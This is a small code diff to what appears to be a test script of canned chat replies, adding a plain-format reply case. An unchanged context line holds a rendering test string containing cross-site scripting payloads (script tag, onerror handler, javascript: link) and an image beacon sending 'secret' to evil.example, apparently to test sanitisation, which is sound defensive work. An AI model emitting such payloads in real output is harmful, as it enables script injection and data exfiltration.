@@ -156,6 +156,8 @@ export const reception: Script = async (input, turn) => {
         text: 'A **bold** word, `code`, [a link](https://seeblick.example/a) and\n\n- one\n- two\n\n![beacon](https://evil.example/?q=secret) <img src=x onerror="window.broken=1"><script>window.broken=1</script> [bad](javascript:alert(1)) ![own](/room.svg)',
       },
     });
+  } else if (words === "as written") {
+    turn.say({ text: { text: "3 * 4 * 5 is **60**", format: "plain" } });
   } else if (words === "plainly") {
     turn.say({ text: { text: "A **bold** word, and\n\n1. one\n2. two" } });
   } else if (words === "web") {
